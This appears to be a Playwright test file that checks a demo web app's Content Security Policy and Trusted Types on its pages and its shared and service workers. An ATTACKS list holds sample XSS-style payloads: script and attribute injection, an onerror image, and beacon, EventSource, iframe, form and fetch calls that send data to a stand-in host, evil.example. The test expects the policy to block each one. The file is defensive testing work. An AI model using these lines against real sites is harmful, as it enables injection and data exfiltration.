import { readdir } from 'node:fs/promises';
import { fileURLToPath } from 'node:url';
import type { Page } from '@playwright/test';
import { LONG } from '../long-files.ts';
import { boardReady } from '../pages/board-page.ts';
import { deviceIn } from '../pages/room-page.ts';
import { startUsbStick } from '../programs/usb-stick.ts';
import { expect, test } from '../test.ts';
import { tourSeen } from '../tour-seen.ts';

const DEMO = fileURLToPath(new URL('../../dist/demo/', import.meta.url));

test.use({ serviceWorkers: 'allow' });

/** Every page of the demo, with one address for each kind of page of a device. */
async function pagesOf(): Promise<readonly string[]> {
  const all = await readdir(DEMO, { recursive: true });
  return all
    .filter((path) => path.endsWith('index.html') && (path.split('/').length <= 3 || path.startsWith('device/3/')))
    .map((path) => path.replace(/index\.html$/, ''));
}

/** Attacks, and the rule that stops each: Trusted Types come before the rules of scripts and workers. */
const ATTACKS = [
  ['require-trusted-types-for', `document.createElement('script').textContent = 'document.title = "broken in"'`],
  ['require-trusted-types-for', `document.body.setAttribute('onclick', 'document.title = "broken in"')`],
  ['require-trusted-types-for', `document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=1>')`],
  ['require-trusted-types-for', `new Worker(URL.createObjectURL(new Blob([''])))`],
  ['require-trusted-types-for', `document.createElement('script').src = 'https://evil.example/a.js'`],
  ['connect-src', `new EventSource('https://evil.example/')`],
  ['connect-src', `navigator.sendBeacon('https://evil.example/', 'a token')`],
  ['img-src', `new Image().src = 'https://evil.example/a.png'`],
  ['style-src-elem', `document.head.append(Object.assign(document.createElement('style'), { textContent: 'p {}' }))`],
  ['style-src-attr', `document.body.setAttribute('style', 'display: none')`],
  [
    'frame-src',
    `document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }))`,
  ],
  [
    'form-action',
    `Object.assign(document.body.appendChild(document.createElement('form')), { action: 'https://evil.example/' }).submit()`,
  ],
] as const;

/** Runs a line as code that is already in the page, so that the page's policy does not block the line itself. */
const runInPage = (page: Page, line: string) => page.evaluate(line).catch(() => {});

/** Evaluates the expression in the worker that runs `file`, through DevTools: Playwright cannot reach shared workers. */
async function runInWorker(page: Page, file: string, expression: string): Promise<void> {
  const session = await page.context().browser()?.newBrowserCDPSession();
  const { targetInfos = [] } = (await session?.send('Target.getTargets', { filter: [{}] })) ?? {};
  const targetId = targetInfos.find(({ url }) => url.endsWith(`/${file}`))?.targetId ?? '';
  const attached = await session?.send('Target.attachToTarget', { targetId, flatten: false });
  const message = JSON.stringify({ id: 1, method: 'Runtime.evaluate', params: { expression } });
  await session?.send('Target.sendMessageToTarget', { sessionId: attached?.sessionId ?? '', message });
}

test('[SIM-2][TOUR-9] a demo in use never violates its security policy', LONG, async ({ keep, openPage }) => {
  const stick = await keep(startUsbStick());
  const room = await openPage('about:blank', tourSeen(stick.origin));
  await room.goto(`${stick.origin}/`);
  await boardReady(deviceIn(room, 3));
  await expect(room.getByText('Listo sin conexión')).toBeVisible();
  await room.getByRole('button', { name: 'Un pedido más' }).click();
  const device = await room.context().newPage();
  await device.goto(`${stick.origin}/device/4/`);
  await expect(device.getByRole('heading', { name: 'KITCHEN' })).toBeVisible();
  for (const path of await pagesOf()) {
    await device.goto(`${stick.origin}/${path}`);
    await expect(device.locator('body')).not.toBeEmpty();
  }
});

test.describe('under attack', () => {
  test.use({
    // The test closes pages that are still loading, so a request may fail. Other tests of the demo allow no failed request.
    allowFailedRequests: true,
    allowViolations:
      /: (require-trusted-types-for |style-src-(elem|attr) |(connect-src|img-src|frame-src|form-action) https:\/\/evil\.example\S*)$/,
  });

  test('[SIM-2][TOUR-9] the security policy is enforced on the room of the demo, a device and the other pages of the demo', async ({
    keep,
    openPage,
  }) => {
    const stick = await keep(startUsbStick());
    const page = await openPage('about:blank', tourSeen(stick.origin));
    await page.close();
    for (const path of ['', 'device/3/', 'device/account/', 'identity/', 'shop/', 'player/']) {
      const attacked = await page.context().newPage();
      await attacked.addInitScript(() => {
        const broken: string[] = [];
        Object.assign(window, { broken });
        addEventListener('securitypolicyviolation', ({ effectiveDirective }) => broken.push(effectiveDirective));
      });
      await attacked.goto(`${stick.origin}/${path}`);
      await expect(attacked.locator('body'), path).not.toBeEmpty();
      const rules: string[] = [];
      for (const [rule, line] of ATTACKS) {
        // The policy is in the header and in the page, and the attack violates both.
        rules.push(rule, rule);
        await runInPage(attacked, line);
        await expect.poll(() => attacked.evaluate('broken'), `${path}: ${line}`).toEqual(rules);
      }
      expect(await attacked.title()).not.toBe('broken in');
      await attacked.close();
    }
  });
});

test.describe('under attack from workers', () => {
  test.use({
    allowViolations: /^(shared|service)_worker .*: connect-src https:\/\/evil\.example\/(shared|service)_worker$/,
  });

  test(
    '[SIM-2][TOUR-9] the security policy is enforced on the workers of the demo',
    LONG,
    async ({ keep, openPage, violations }) => {
      const stick = await keep(startUsbStick());
      const room = await openPage('about:blank', tourSeen(stick.origin));
      await room.goto(`${stick.origin}/`);
      await expect(room.getByText('Listo sin conexión')).toBeVisible();
      for (const [kind, file] of [
        ['shared_worker', 'kitchen.js'],
        ['service_worker', 'service-worker.js'],
      ] as const) {
        await runInWorker(room, file, `void fetch('https://evil.example/${kind}').catch(() => {})`);
        const stopped = () =>
          violations().some(
            (one) => one.startsWith(kind) && one.endsWith(`: connect-src https://evil.example/${kind}`),
          );
        await expect.poll(stopped, { message: file }).toBe(true);
      }
    },
  );
});
